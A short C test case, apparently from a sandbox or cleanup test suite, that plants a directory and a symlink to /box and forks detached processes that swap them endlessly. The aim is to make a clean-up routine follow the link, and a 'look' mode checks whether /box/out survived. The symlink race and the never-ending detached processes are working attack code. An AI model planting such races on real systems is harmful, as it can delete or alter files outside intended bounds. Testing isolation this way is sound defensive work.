/* Case 1 leaves processes that swap a directory and a link to /box as fast as they can, so that a clean-up may walk through the link. */
#include "attempt.h"
#include <fcntl.h>
#include <sys/stat.h>

static void swap_for_ever(void) {
    setsid();
    for (;;) {
        renameat2(AT_FDCWD, "/work/a", AT_FDCWD, "/work/b", RENAME_EXCHANGE);
        mkdir("/work/a/x", 0700);
        mkdir("/work/b/x", 0700);
    }
}

int main(void) {
    char order[16] = "";
    if (fgets(order, sizeof order, stdin) == NULL) return 1;
    if (strncmp(order, "look", 4) == 0) {
        printf("%s %s\n", access("/work/a", F_OK) ? "gone" : "there", access("/box/out", F_OK) ? "gone" : "there");
        return 0;
    }
    if (mkdir("/work/a", 0700) != 0 || symlink("/box", "/work/b") != 0) return 1;
    for (int process = 0; process < 4; process++) {
        if (fork() == 0) swap_for_ever();
    }
    puts("planted");
    return 0;
}
